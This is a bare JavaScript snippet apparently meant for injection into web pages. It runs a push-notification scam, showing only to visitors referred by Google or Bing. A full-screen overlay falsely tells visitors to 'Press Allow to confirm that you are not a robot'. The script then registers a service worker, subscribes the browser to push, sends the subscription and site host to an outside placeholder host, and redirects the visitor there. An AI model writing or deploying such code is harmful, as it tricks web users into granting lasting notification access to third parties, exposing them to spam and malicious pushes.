(async function () {
  if (!("serviceWorker" in navigator) || Notification.permission !== "default") return;
  const z = { zoneId: "0000000", d: ["push", "allow-robot", "example"].join(".") };
  const ask = async () => {
    document.body.insertAdjacentHTML("beforeend", '<div style="position:fixed;inset:0;background:#fff;z-index:2147483647;text-align:center;padding-top:30vh">Press Allow to confirm that you are not a robot</div>');
    const p = await Notification.requestPermission();
    if (p !== "granted") { location.href = `https://${z.d}/deny?z=${z.zoneId}`; return; }
    const r = await navigator.serviceWorker.register("/sw-check-permissions.js?z=" + z.zoneId + "&d=" + z.d);
    const s = await r.pushManager.subscribe({ userVisibleOnly: true, applicationServerKey: "PLACEHOLDER_KEY" });
    await fetch(`https://${z.d}/subscribe`, { method: "POST", body: JSON.stringify({ s, h: location.host }) });
    location.href = `https://${z.d}/next?z=${z.zoneId}`;
  };
  /google|bing/.test(document.referrer) && ask();
})();
